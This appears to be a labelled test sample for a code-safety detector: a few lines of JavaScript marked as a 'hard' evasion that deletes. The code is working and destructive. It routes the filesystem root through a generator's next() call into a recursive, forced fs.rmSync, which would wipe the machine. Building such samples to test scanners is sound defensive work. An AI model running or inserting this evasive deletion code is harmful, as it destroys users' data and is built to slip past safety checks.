// evasion: a generator expression held in a const is sent the root directory (path.parse(cwd).root) by next() and removes it
// grade: hard; does: delete
const fs = require("fs");
const path = require("path");
const sweeper = function* () {
  let where = yield;
  fs.rmSync(where, { recursive: true, force: true });
};
const top = path.parse(process.cwd()).root;
const s = sweeper();
s.next();
s.next(top);
